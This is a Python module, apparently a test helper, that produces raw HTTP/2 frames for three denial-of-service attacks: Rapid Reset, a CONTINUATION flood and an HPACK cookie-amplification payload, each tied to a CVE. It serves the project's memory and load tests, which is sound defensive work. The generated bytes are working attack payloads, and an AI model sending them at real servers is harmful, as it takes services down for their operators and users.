"""Frames that HTTP/2 servers have died of, as bytes to be sent behind a preface. Knows no socket.

The tests of the front (``tests/site/test_front_floods.py``) hold its memory against them, ``bench_flood_tls.py`` what
another client feels of them.
"""

from __future__ import annotations

import struct

from hpack import Encoder

HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def head(encoder: Encoder, host: str, *more: tuple[str, str]) -> bytes:
    block = [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/page"), *more]
    encoded: bytes = encoder.encode(block)
    return encoded


def rapid_reset(host: str) -> bytes:
    """CVE-2023-44487: streams opened and reset at once, for ever."""
    encoder = Encoder()
    streams = range(1, 20_001, 2)
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, head(encoder, host))
        + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in streams
    )


def continuation_flood(host: str) -> bytes:
    """CVE-2024-27316 and others: a head that never ends."""
    first = frame(HEADERS, END_STREAM, 1, head(Encoder(), host))
    piece = b"\x00\x01x\x7f\x81\x1f" + b"y" * 158
    return first + frame(CONTINUATION, 0, 1, piece * 90) * 600


def crumbs(host: str) -> bytes:
    """CVE-2026-47774: a few bytes on the wire, an indexed field each, thousands of cookies in memory."""
    encoder = Encoder()
    again = bytes([0x80 | 62]) * 16_000  # the newest entry of the dynamic table: the cookie of the first head
    blocks = [head(encoder, host, ("cookie", "a=b")), *(head(encoder, host) + again for _ in range(100))]
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, block) for number, block in enumerate(blocks)
    )
